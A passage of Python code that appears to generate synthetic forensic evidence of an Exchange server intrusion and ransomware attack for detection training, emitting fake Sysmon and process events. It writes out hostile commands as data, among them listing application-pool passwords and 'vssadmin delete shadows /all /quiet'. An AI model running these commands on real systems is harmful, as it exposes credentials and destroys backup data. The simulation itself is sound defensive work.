                   "list apppool /text:*", "application-pool passwords listed")  # fmt: skip
        tgt = f"{INSTALL_DIR}\\TransportRoles\\Shared\\agents.config"
        self._sysmon(t0 + 400_000, 11, "File created (rule: FileCreate)", {"ProcessId": "4120", "Image": ps,
                     "TargetFilename": tgt, "CreationUtcTime": iso(t0 - 200 * DAY_MS)}, "file-event-transport-agents-config",
                     "agents.config", "agents.config rewritten by PowerShell")  # fmt: skip
        tgt = f"{INSTALL_DIR}\\FrontEnd\\HttpProxy\\owa\\web.config"
        self._sysmon(t0 + 420_000, 11, "File created (rule: FileCreate)", {"ProcessId": "4188", "Image": we.CMD,
                     "TargetFilename": tgt, "CreationUtcTime": iso(t0 - 200 * DAY_MS)}, "file-event-exchange-web-config",
                     "owa\\web.config", "OWA web.config rewritten by cmd.exe")  # fmt: skip

    # ---- follow-on payloads -----------------------------------------------------------------------
    def _impact(self, t0: int) -> None:
        vss = "C:\\Windows\\System32\\vssadmin.exe"
        self._proc(t0, vss, "vssadmin delete shadows /all /quiet", "ransomware-recovery-inhibit", "delete shadows",
                   "shadow copies deleted")  # fmt: skip
        enc = "C:\\Users\\Public\\Documents\\budget-2021.xlsx.CRYPT"
        self._sysmon(t0 + 30_000, 11, "File created (rule: FileCreate)", {"ProcessId": "6612",
                     "Image": "C:\\ProgramData\\msupdate.exe", "TargetFilename": enc, "CreationUtcTime": iso(t0 + 30_000)},
                     "ransomware-note-or-extension", ".xlsx.CRYPT", "DearCry-style encrypted file")  # fmt: skip
        rel = fl.write_planted(self.w.root, f"{self.w.host}/C/Users/Public/Desktop/decrypt_file.TxT",
                               "Your files have been encrypted. (synthetic note)\r\n", t0 + 60_000)  # fmt: skip
        self._trace(None, "file-ransom-note", t0 + 60_000, "encrypted", "BlackKingdom-style ransom note", path=rel)
